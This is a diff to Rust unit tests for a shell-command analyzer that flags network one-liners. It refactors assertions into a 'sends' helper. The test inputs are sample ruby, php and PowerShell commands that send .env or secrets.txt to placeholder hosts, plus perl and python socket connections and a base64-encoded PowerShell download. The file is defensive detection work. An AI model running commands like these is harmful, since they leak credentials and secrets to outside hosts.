@@ -262,7 +262,7 @@ const POWERSHELL_VALUED: &[&str] = &[
 #[cfg(test)]
 mod tests {
     use crate::flow::shell::analyze;
-    use crate::flow::shell::test_util::{net, one, s};
+    use crate::flow::shell::test_util::{net, one, s, sends};
 
     #[test]
     fn python_one_liner() {
@@ -292,22 +292,30 @@ mod tests {
         assert!(n.one_liner);
         assert_eq!(n.hosts, s(&["n.example"]));
         assert_eq!(n.stdin_from, s(&[".env"]));
-        let n = one("ruby -rnet/http -e 'Net::HTTP.post(URI(\"http://r.example\"), File.read(\".env\"))'");
-        assert_eq!(n.tool, "ruby");
-        assert_eq!(n.hosts, s(&["r.example"]));
+        let n = sends(
+            "ruby -rnet/http -e 'Net::HTTP.post(URI(\"http://r.example\"), File.read(\".env\"))'",
+            "ruby",
+            &["r.example"],
+        );
         assert_eq!(n.stdin_from, s(&[".env"]));
-        let n = one("perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>\"p.example:80\")'");
-        assert_eq!(n.tool, "perl");
-        assert_eq!(n.hosts, s(&["p.example"]));
-        let n = one("php -r 'file_get_contents(\"https://h.example/?\".file_get_contents(\".env\"));'");
-        assert_eq!(n.tool, "php");
-        assert_eq!(n.hosts, s(&["h.example"]));
+        sends(
+            "perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>\"p.example:80\")'",
+            "perl",
+            &["p.example"],
+        );
+        let n = sends(
+            "php -r 'file_get_contents(\"https://h.example/?\".file_get_contents(\".env\"));'",
+            "php",
+            &["h.example"],
+        );
         assert_eq!(n.stdin_from, s(&[".env"]));
         let n = one("python3 -c 'import socket;s=socket.socket();s.connect((\"s.example\",4444))'");
         assert_eq!(n.hosts, s(&["s.example"]));
-        let n = one("pwsh -Command Invoke-WebRequest -Uri https://w.example -InFile secrets.txt -Method Post");
-        assert_eq!(n.tool, "powershell");
-        assert_eq!(n.hosts, s(&["w.example"]));
+        sends(
+            "pwsh -Command Invoke-WebRequest -Uri https://w.example -InFile secrets.txt -Method Post",
+            "powershell",
+            &["w.example"],
+        );
         // -EncodedCommand: "iwr https://enc.example" in UTF-16LE base64
         let enc = "aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AZQBuAGMALgBlAHgAYQBtAHAAbABlAA==";
         let n = one(&format!("powershell -NoProfile -enc {enc}"));
